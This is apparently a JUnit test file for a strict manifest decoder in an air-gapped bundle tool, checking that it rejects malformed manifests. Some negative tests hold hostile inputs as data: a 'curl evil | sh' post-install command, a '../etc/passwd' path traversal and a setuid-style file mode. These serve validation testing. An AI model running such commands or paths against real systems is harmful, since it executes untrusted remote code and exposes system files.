package dev.airgap.core.manifest;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.airgap.core.Digest;
import dev.airgap.core.Json;
import dev.airgap.core.LogicalPath;
import dev.airgap.core.error.IntegrityException;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import org.junit.jupiter.api.Test;

class ManifestCodecTest {
  private static final Instant CREATED = Instant.parse("2026-11-23T10:00:00Z");

  private static Manifest sample() {
    Digest d1 = Digest.of("one".getBytes(StandardCharsets.UTF_8));
    Digest d2 = Digest.of("two".getBytes(StandardCharsets.UTF_8));
    return new Manifest(1, "b-1", "default", 7, CREATED, CREATED.plusSeconds(86400), new Producer("airgap", "0.1.0", "host"),
        new SbomRef("sbom.cdx.json", 10, d1, "application/vnd.cyclonedx+json"),
        List.of(new Artifact("files", "docs", "1", "pkg:generic/docs@1", Map.of("b", "2", "a", "1"),
                List.of(new ArtifactFile(new LogicalPath("docs/a.txt"), 3, d1, "text/plain"), new ArtifactFile(new LogicalPath("docs/b.txt"), 3, d2, "text/plain"))),
            new Artifact("model", "m", "r1", "pkg:huggingface/org/m@r1", Map.of(), List.of())));
  }

  @Test
  void roundTripsEveryMember() {
    Manifest m = sample();
    assertEquals(m, ManifestCodec.decode(ManifestCodec.encode(m)));
  }

  @Test
  void acceptsMembersInAnyOrderAndCompactJson() throws Exception {
    ObjectNode tree = tree();
    ObjectNode reordered = Json.strict().createObjectNode();
    List.of("artifacts", "sbom", "producer", "expires", "created", "sequence", "channel", "bundleId", "formatVersion")
        .forEach(k -> reordered.set(k, tree.get(k)));
    byte[] compact = Json.strict().writer().withoutFeatures(com.fasterxml.jackson.databind.SerializationFeature.INDENT_OUTPUT).writeValueAsBytes(reordered);
    assertEquals(sample(), ManifestCodec.decode(compact));
  }

  @Test
  void rejectsUnknownMembersAtEveryLevel() {
    rejected(t -> t.put("postInstall", "curl evil | sh"), "manifest: unknown member 'postInstall'");
    rejected(t -> ((ObjectNode) t.get("producer")).put("uid", 0), "manifest.producer: unknown member 'uid'");
    rejected(t -> ((ObjectNode) t.get("sbom")).put("url", "x"), "manifest.sbom: unknown member 'url'");
    rejected(t -> artifact(t, 1).put("script", "x"), "manifest.artifacts[1]: unknown member 'script'");
    rejected(t -> file(t, 0, 1).put("mode", 4755), "manifest.artifacts[0].files[1]: unknown member 'mode'");
  }

  @Test
  void rejectsMissingMembers() {
    rejected(t -> t.remove("expires"), "manifest: missing member(s) [expires]");
    rejected(t -> artifact(t, 0).remove(List.of("purl", "files")), "manifest.artifacts[0]: missing member(s) [files, purl]");
    rejected(t -> file(t, 0, 0).remove("sha256"), "manifest.artifacts[0].files[0]: missing member(s) [sha256]");
  }

  @Test
  void rejectsWrongTypes() {
    rejected(t -> t.put("sequence", "7"), "manifest.sequence: expected an integer, found a string");
    rejected(t -> t.put("formatVersion", 1.0), "manifest.formatVersion: expected an integer, found a number");
    rejected(t -> t.put("formatVersion", 1L << 33), "manifest.formatVersion: out of range");
    rejected(t -> t.put("sequence", new java.math.BigInteger("99999999999999999999")), "manifest.sequence: expected an integer");
    rejected(t -> artifact(t, 0).putNull("name"), "manifest.artifacts[0].name: expected a string, found null");
    rejected(t -> artifact(t, 0).put("files", "docs/a.txt"), "manifest.artifacts[0].files: expected an array, found a string");
    rejected(t -> ((ObjectNode) artifact(t, 0).get("properties")).put("a", 1), "manifest.artifacts[0].properties.a: expected a string, found a number");
    rejected(t -> file(t, 0, 0).put("size", -1), "manifest.artifacts[0].files[0].size: negative size -1");
    rejected(t -> t.put("created", "yesterday"), "manifest.created: not an RFC 3339 UTC instant: 'yesterday'");
    rejected(t -> t.putArray("producer"), "manifest.producer: expected an object, found an array");
  }

  @Test
  void rejectsBadDigestsAndPathsWithTheirLocation() {
    rejected(t -> file(t, 0, 1).put("sha256", "sha256:ABC"), "manifest.artifacts[0].files[1].sha256: digest: expected sha256:<64 lowercase hex>");
    rejected(t -> file(t, 0, 1).put("path", "../etc/passwd"), "manifest.artifacts[0].files[1].path: unsafe path '../etc/passwd'");
  }

  @Test
  void rejectsDuplicateNamesTrailingContentAndNonObjects() {
    String json = new String(ManifestCodec.encode(sample()), StandardCharsets.UTF_8);
    String dup = json.replaceFirst("\"channel\" : \"default\",", "\"channel\" : \"default\", \"channel\" : \"other\",");
    assertTrue(dup.contains("\"other\""));
    rejectedBytes(dup.getBytes(StandardCharsets.UTF_8), "Duplicate field 'channel'");
    rejectedBytes((json + "{}").getBytes(StandardCharsets.UTF_8), "trailing content");
    rejectedBytes("[]".getBytes(StandardCharsets.UTF_8), "manifest: expected an object, found an array");
    rejectedBytes(new byte[0], "empty document");
    rejectedBytes("{\"formatVersion\": 1,".getBytes(StandardCharsets.UTF_8), "not a valid manifest");
  }

  @Test
  void validatesAfterParsing() {
    rejected(t -> t.put("formatVersion", 2), "manifest.formatVersion: unsupported format version 2");
    rejected(t -> file(t, 0, 1).put("path", "Docs/A.txt").put("sha256", file(t, 0, 0).get("sha256").asText()), "collides with");
  }

  private static ObjectNode tree() {
    try {
      return (ObjectNode) Json.strict().readTree(ManifestCodec.encode(sample()));
    } catch (java.io.IOException e) {
      throw new AssertionError(e);
    }
  }

  private static ObjectNode artifact(ObjectNode t, int i) {
    return (ObjectNode) t.get("artifacts").get(i);
  }

  private static ObjectNode file(ObjectNode t, int artifact, int i) {
    return (ObjectNode) ((ArrayNode) artifact(t, artifact).get("files")).get(i);
  }

  private static void rejected(Consumer<ObjectNode> edit, String expected) {
    ObjectNode t = tree();
    edit.accept(t);
    try {
      rejectedBytes(Json.strict().writeValueAsBytes(t), expected);
    } catch (com.fasterxml.jackson.core.JsonProcessingException e) {
      throw new AssertionError(e);
    }
  }

  private static void rejectedBytes(byte[] json, String expected) {
    IntegrityException e = assertThrows(IntegrityException.class, () -> ManifestCodec.decode(json));
    assertEquals(3, e.exitCode());
    assertTrue(e.getMessage().contains(expected), () -> "message '" + e.getMessage() + "' lacks '" + expected + "'");
  }
}
